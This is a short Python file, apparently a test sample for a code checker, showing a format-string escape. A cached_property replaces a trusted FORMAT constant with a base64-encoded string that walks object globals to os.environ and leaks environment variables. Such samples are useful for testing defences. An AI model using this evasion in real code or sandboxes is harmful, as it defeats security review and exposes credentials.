# family: format
# Escape: like a property, functools.cached_property overrides the trusted class constant FORMAT of the base
# class; the cached value comes from the constructor (a run-time string), never from an attribute store the
# checker could see. str.format then walks "{0.__init__.__globals__[_os].environ}" from random.Random.
import base64
import functools
import random


class Row:
    FORMAT = "{0}"

    def render(self, value) -> str:
        return self.FORMAT.format(value)


class CustomRow(Row):
    def __init__(self, encoded: str):
        self.encoded = encoded

    @functools.cached_property
    def FORMAT(self) -> str:
        return base64.b64decode(self.encoded).decode()


def tool() -> str:
    return CustomRow("ezAuX19pbml0X18uX19nbG9iYWxzX19bX29zXS5lbnZpcm9ufQ==").render(random.Random())
